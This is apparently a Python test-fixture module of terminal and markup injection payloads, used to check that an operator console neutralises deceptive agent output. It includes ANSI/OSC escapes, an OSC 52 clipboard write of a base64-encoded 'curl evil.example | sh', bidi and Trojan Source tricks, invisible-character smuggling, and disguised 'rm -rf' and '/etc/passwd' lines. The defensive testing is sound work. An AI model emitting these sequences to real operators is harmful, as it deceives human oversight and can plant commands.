"""Texts that an agent, a tool or a model could write to fool an operator or break a screen.

`PAYLOADS` maps a name to a text. Parametrize over its names and look the text up, for readable test ids
that hold no control characters:

    @pytest.mark.parametrize("name", PAYLOADS)
    def test_...(name: str) -> None:
        text = PAYLOADS[name]

`ACTING` are the names whose text must never reach a terminal as it is: `oracle.forbidden_in_terminal`
finds every one of them. The others are printable and attack a markup parser, a layout or a reader.
`CONTROLS` are ordinary texts that have to come out unchanged. `words(text)` are the words that an
operator must still find on the screen.
"""

from __future__ import annotations

import re
from typing import Final

_CLIPBOARD: Final = "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=="
_ST: Final = "\x1b\\"

_SEQUENCES: Final = {
    "sgr": "before \x1b[31;1mred alert\x1b[0m after",
    "sgr_left_open": "before \x1b[8mconcealed from here on",
    "sgr_colon_form": "before \x1b[38:2::255:0:0mred\x1b[0m after",
    "sgr_extra_reset": "before \x1b[0m after",
    "clear_screen": "before \x1b[2J\x1b[Hwiped after",
    "cursor_home": "before \x1b[1;1HAPPROVED after",
    "cursor_up": "refund 9000\x1b[1A\x1b[2Krefund 9",
    "erase_line": "delete everything\x1b[2K\x1b[1Gread one file",
    "scroll_region": "before \x1b[5;5r after",
    "insert_lines": "before \x1b[20L after",
    "leave_alternate_screen": "before \x1b[?1049l after",
    "enter_alternate_screen": "before \x1b[?1049h after",
    "mouse_on": "before \x1b[?1003h after",
    "cursor_hide": "before \x1b[?25l after",
    "soft_reset": "before \x1b[!p after",
    "hard_reset": "before \x1bc after",
    "charset_g0": "before \x1b(0lqqqk after",
    "keypad": "before \x1b= after",
    "repeat_character": "before a\x1b[9999b after",
    "unfinished_csi": "before \x1b[",
    "unfinished_escape": "before \x1b",
    "csi_with_control_inside": "before \x1b[3\x071m after",
}
_STRINGS: Final = {
    "osc_title_bel": "before \x1b]0;all runs healthy\x07 after",
    "osc_title_st": f"before \x1b]2;all runs healthy{_ST} after",
    "osc_link": f"before \x1b]8;;https://evil.example/\x07open the receipt\x1b]8;;{_ST} after",
    "osc_clipboard_bel": f"before \x1b]52;c;{_CLIPBOARD}\x07 after",
    "osc_clipboard_st": f"before \x1b]52;c;{_CLIPBOARD}{_ST} after",
    "osc_clipboard_query": "before \x1b]52;c;?\x07 after",
    "osc_notification": "before \x1b]9;pager resolved\x07 after",
    "osc_palette": "before \x1b]4;1;rgb:00/00/00\x07 after",
    "osc_pointer": "before \x1b]22;none\x07 after",
    "osc_unfinished": "before \x1b]0;swallows the rest of the screen",
    "dcs_tmux": f"before \x1bPtmux;\x1b\x1b]52;c;{_CLIPBOARD}\x07{_ST} after",
    "dcs_report": f'before \x1bP$q"p{_ST} after',
    "dcs_sixel": f"before \x1bPq#0;2;0;0;0#0~~@@vv{_ST} after",
    "apc": f"before \x1b_Gi=1;AAAA{_ST} after",
    "pm": f"before \x1b^private{_ST} after",
    "sos": f"before \x1bXstring{_ST} after",
    "screen_title": f"before \x1bktitle{_ST} after",
    "ask_attributes": "before \x1b[c after",
    "ask_position": "before \x1b[6n after",
    "ask_version": "before \x1b[>q after",
    "ask_title": "before \x1b[21t after",
    "ask_sync_mode": "before \x1b[?2026$p after",
}
_CONTROLS_OF_OLD: Final = {
    "c1_csi": "before \x9b2J\x9b1;1Hwiped after",
    "c1_osc": "before \x9d0;title\x9c after",
    "c1_dcs": "before \x90tmux;\x9c after",
    "c1_apc": "before \x9fG\x9c after",
    "c1_next_line": "before \x85 after",
    "nul": "before\x00after",
    "bel": "before \x07\x07\x07 after",
    "backspace": "reject\x08\x08\x08\x08\x08\x08approve",
    "carriage_return": "delete all customers\rread one customer  ",
    "vertical_tab": "before\x0bafter",
    "form_feed": "before\x0cafter",
    "delete": "before\x7fafter",
    "shift_out": "before \x0elqqk\x0f after",
    "enquiry": "before \x05 after",
    "substitute": "before \x1a after",
    "newline": "first line\nsecond line\n\n",
    "carriage_return_newline": "first line\r\nsecond line\r\n",
    "tab": "before\tafter\t\t",
}
_UNSEEN: Final = {
    "line_separator": "before\u2028after",
    "paragraph_separator": "before\u2029after",
    "right_to_left_override": "invoice\u202efdp.exe\u202c after",
    "isolates": "before \u2066amount\u2069 \u2067refund\u2069 \u2068to\u2069 after",
    "marks_of_direction": "before\u200eafter\u200fand\u061cthen",
    "trojan_source": "if role != \u202e\u2066'user'\u2069 \u2066# admin\u2069\u2066:",
    "zero_width": "re\u200bfu\u200cnd\u200d_al\u2060l\ufeff",
    "soft_hyphen": "re\xadfund",
    "invisible_operators": "before\u2061\u2062\u2063\u2064after",
    "deprecated_format": "before\u206a\u206b\u206fafter",
    "interlinear": "before\ufff9note\ufffaabove\ufffbafter",
    "tags": "before" + "".join(chr(0xE0000 + ord(letter)) for letter in "kill no run") + "\U000e007f after",
    "variation_smuggle": "before" + "".join(chr(0xE0100 + byte) for byte in b"approve it") + " after",
    "variation_selectors": "a\ufe00b\ufe0ec\ufe0fd after",
    "grapheme_joiner": "re\u034ffund",
    "fillers": "before\u115f\u1160\u3164\uffa0\u2800after",
    "odd_spaces": "rm\u00a0-rf\u2000\u2003\u2009\u200a\u202f\u205f\u1680/ after",
    "private_use": "before \ue0b0\uf8ff\U000f0000\U0010fffd after",
    "unassigned": "before \u0378\U000e0fff after",
    "noncharacters": "before \ufdd0\ufffe\uffff\U0010ffff after",
    "lone_high_surrogate": "before \ud83d after",
    "lone_low_surrogate": "before \ude00 after",
    "combining_flood": "refund" + "\u0336\u0301\u0327\u0489" * 200 + " 40.00",
    "combining_flood_everywhere": "".join(letter + "\u0315\u031b\u0340\u0358" * 5 for letter in "approve"),
    "jamo_flood": "before \u1100" + "\u1161\u11a8" * 100 + " after",
    "shorthand_format": "before \U0001bca0\U0001d173 after",
}
_MARKUP: Final = {
    "markup_action": "[@click=app.quit]open the trace[/]",
    "markup_action_call": "[@click=screen.approve('A-2230')]details[/]",
    "markup_link": "[link=https://evil.example/]receipt[/link]",
    "markup_hidden": "transfer [black on black]4000 to mallory[/] done",
    "markup_swallowed": "rm -rf [force] /data [a-z]+",
    "markup_closing": "[/x]",
    "markup_closing_all": "[/]",
    "markup_path": "cat [/etc/passwd]",
    "markup_open": "[bold",
    "markup_unbalanced": "]][[ [/ [[/]] [] [=] [@]",
    "markup_log": "[ERROR] disk full \\[not escaped] tail\\",
    "markup_variable": "[$primary]x[/] $error {colour}",
    "json_with_brackets": '{"x": [true], "y": ["[/]", [1, [2]]], "z": "[red]"}',
    "markdown": "# done\n\n![x](https://evil.example/p.png) [approve](action:approve) `code` <b>bold</b>",
    "emoji_code": ":skull: :warning: :x:",
    "format_string": "{0.__class__.__mro__} {self} %s %n %(x)s ${HOME}",
    "spreadsheet": '=HYPERLINK("https://evil.example","receipt")',
    "escape_written_out": "\\x1b[2J \\033]0;title\\007 ^[[31m [31mred[0m \\u202e",
    "sign_written_out": "<U+202E> is what an override looks like \u241b[2J",
}
_LAYOUT: Final = {
    "empty": "",
    "spaces_only": "      ",
    "newlines_only": "\n" * 500,
    "very_long": "refund order A-1009 " * 5_000,
    "very_long_word": "A" * 100_000,
    "very_wide": "\u6f22\u5b57\uff21\uff22\u30ab\u30ca" * 500,
    "many_lines": "one more line\n" * 5_000,
    "approval_box": (
        "\u250c\u2500 approve? \u2500\u2500\u2500\u2500\u2510\n\u2502 refund 4.00 \u2502\n"
        "\u2502 [y] yes  [n] no \u2502\n"
        "\u2514\u2500\u2500\u2500\u2500\u2500\u2500\u2500\u2500\u2500\u2500\u2518"
    ),
    "status_line": "PROD eu-1  admin  hub ok  data 0.1s  brake 12ms  1:fleet",
    "stop_words": "confirmed stopped \u2713 no gated call in flight",
    "key_line": "y kill  q close  r resume  ? help",
    "homoglyphs": "p\u0430ypal.example  \u0391dmin  r\u043e\u043et",
    "leading_mark": "\u0338\u20e0approved",
    "mark_after_newline": "first\n\u0338second",
    "joined_emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467 family",
    "disputed_width": "\u26a0\ufe0f" * 40 + " done",
}

PAYLOADS: Final[dict[str, str]] = {
    **_SEQUENCES,
    **_STRINGS,
    **_CONTROLS_OF_OLD,
    **_UNSEEN,
    **_MARKUP,
    **_LAYOUT,
}

ACTING: Final[frozenset[str]] = frozenset(
    [
        *(*_SEQUENCES, *_STRINGS, *_CONTROLS_OF_OLD, *_UNSEEN),
        *("newlines_only", "many_lines", "approval_box", "markdown", "mark_after_newline"),
        *("joined_emoji", "disputed_width"),
    ]
)

CONTROLS: Final[dict[str, str]] = {
    "english": (
        "Refund of $40.00 for order A-1009: \u201cparcel never arrived\u201d \u2014 policy allows it\u2026"
    ),
    "german": "Gr\u00fc\u00dfe aus K\u00f6ln, Stra\u00dfe 5 \u00a7 3",
    "french": "d\u00e9j\u00e0 vu, \u00e7a va, \u0153uvre",
    "vietnamese": "Ti\u1ebfng Vi\u1ec7t, n\u01b0\u1edbc m\u1eafm",
    "decomposed": "de\u0301ja\u0300 vu, Tie\u0302\u0301ng Vie\u0323\u0302t",
    "polish": "Za\u017c\u00f3\u0142\u0107 g\u0119\u015bl\u0105 ja\u017a\u0144",
    "greek": "\u03b3\u03bd\u1ff6\u03b8\u03b9 \u03c3\u03b5\u03b1\u03c5\u03c4\u03cc\u03bd",
    "russian": (
        "\u0421\u044a\u0435\u0448\u044c \u0435\u0449\u0451 "
        "\u044d\u0442\u0438\u0445 \u0431\u0443\u043b\u043e\u043a"
    ),
    "hebrew": (
        "\u05d1\u05b0\u05bc\u05e8\u05b5\u05d0\u05e9\u05b4\u05c1\u05d9\u05ea "
        "\u05d1\u05b8\u05bc\u05e8\u05b8\u05d0"
    ),
    "arabic": (
        "\u0645\u064e\u0631\u0652\u062d\u064e\u0628\u064b\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645"
    ),
    "hindi": "\u0928\u092e\u0938\u094d\u0924\u0947 \u0926\u0941\u0928\u093f\u092f\u093e",
    "thai": (
        "\u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35\u0e0a\u0e32\u0e27\u0e42\u0e25\u0e01 "
        "\u0e17\u0e35\u0e48\u0e19\u0e35\u0e48"
    ),
    "burmese": "\u1019\u103b\u103e\u1031\u102c\u1037 \u1019\u103c\u1014\u103a\u1019\u102c",
    "tibetan": "\u0f56\u0f7c\u0f51\u0f0b\u0f66\u0f90\u0f51\u0f0b",
    "chinese": "\u9000\u6b3e\u8ba2\u5355\uff1a\u5305\u88f9\u4ece\u672a\u5230\u8fbe\u3002",
    "japanese": "\u6ce8\u6587\u3000\u8fd4\u91d1\u3092\u304a\u9858\u3044\u3057\u307e\u3059\uff01\uff76\uff85",
    "korean": "\ud658\ubd88 \uc694\uccad, \u1112\u1161\u11ab\u1100\u1173\u11af",
    "emoji": "\u2705 done \u274c failed \U0001f600 \U0001f44d\U0001f3fd \U0001f1e9\U0001f1ea 1\u20e3 \u26a0",
    "mathematics": "\u2200x \u2208 \u211d: x\u00b2 \u2265 0 \u2192 \u2211 \u2264 \u221e",
    "drawing": "\u250c\u2500\u2510 \u2588\u2593\u2591 \u2581\u2582\u2583 \u28c0\u28ff \u25cf \u25b6",
    "code": "def refund(order_id: str) -> dict[str, float]: return {'a': [1, 2][0]}  # \\[x]",
    "lines": "first\n\tsecond, indented\n\nlast",
}


def words(text: str) -> list[str]:
    """Return the plain words of the text, two letters or digits and more, which no view may swallow."""
    return re.findall(r"[A-Za-z0-9]{2,}", text)
